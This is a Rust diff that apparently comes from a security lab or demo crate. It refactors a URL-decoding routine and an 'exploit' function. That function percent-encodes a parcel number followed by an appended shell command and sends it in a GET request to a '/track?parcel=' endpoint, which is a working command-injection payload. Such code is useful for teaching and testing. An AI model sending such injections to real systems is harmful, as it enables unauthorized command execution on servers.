@@ -57,15 +57,12 @@ fn decode(text: &str) -> String {
     while let Some((&first, after)) = rest.split_first() {
         let code = (first == b'%').then(|| after.get(..2)).flatten();
         let byte = code.and_then(|two| std::str::from_utf8(two).ok()).and_then(|two| u8::from_str_radix(two, 16).ok());
-        match byte {
-            Some(byte) => {
-                bytes.push(byte);
-                rest = after.get(2..).unwrap_or_default();
-            }
-            None => {
-                bytes.push(if first == b'+' { b' ' } else { first });
-                rest = after;
-            }
+        if let Some(byte) = byte {
+            bytes.push(byte);
+            rest = after.get(2..).unwrap_or_default();
+        } else {
+            bytes.push(if first == b'+' { b' ' } else { first });
+            rest = after;
         }
     }
     String::from_utf8_lossy(&bytes).into_owned()
@@ -73,7 +70,8 @@ fn decode(text: &str) -> String {
 
 /// What the attacker sends: a parcel number with a command behind it.
 pub(crate) fn exploit(target: SocketAddr, command: &str) -> Result<()> {
-    let parcel: String = format!("42; {command}").bytes().map(|byte| format!("%{byte:02x}")).collect();
+    let parcel = hex::encode(format!("42; {command}"));
+    let parcel: String = parcel.as_bytes().chunks(2).flat_map(|two| [b'%', two[0], two[1]]).map(char::from).collect();
     let answer = http::ask(target, "GET", &format!("/track?parcel={parcel}"), "", &[])?;
     print!("{}", String::from_utf8_lossy(&answer));
     Ok(())
